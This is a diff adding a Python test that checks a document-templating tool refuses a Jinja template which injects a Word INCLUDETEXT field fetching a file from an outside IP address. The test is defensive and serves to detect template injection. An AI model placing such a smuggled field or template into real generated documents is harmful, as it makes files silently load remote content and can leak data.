@@ -494,3 +494,12 @@ def test_security_doc_names_only_tests_that_exist() -> None:
     assert len(cited) >= 25 and cited <= defined, sorted(cited - defined)
     for name in ("MAX_FILE_BYTES", "MAX_STEPS", "MAX_OUTPUT_CHARS", "MAX_VALUE_CHARS", "MAX_DEPTH"):
         assert f"{getattr(limits, name):,}" in section or f"{getattr(limits, name) // MB} MB" in section, name
+
+
+def test_a_field_written_by_the_template_itself_is_refused_after_rendering(tmp_path: Path) -> None:
+    # Jinja's \x3c and \x3e are < and >; with autoescape off the template writes raw XML
+    raw = ("{% autoescape false %}{{ '\\x3c/w:t\\x3e\\x3c/w:r\\x3e\\x3cw:r\\x3e\\x3cw:instrText\\x3eINCLUDETEXT "
+           "\"http://203.0.113.9/x.docx\"\\x3c/w:instrText\\x3e\\x3c/w:r\\x3e\\x3cw:r\\x3e\\x3cw:t\\x3e' }}"
+           "{% endautoescape %}")
+    d = refused(template(tmp_path, "正文", raw))
+    assert d.code == "template-unsafe" and "INCLUDETEXT" in d.message
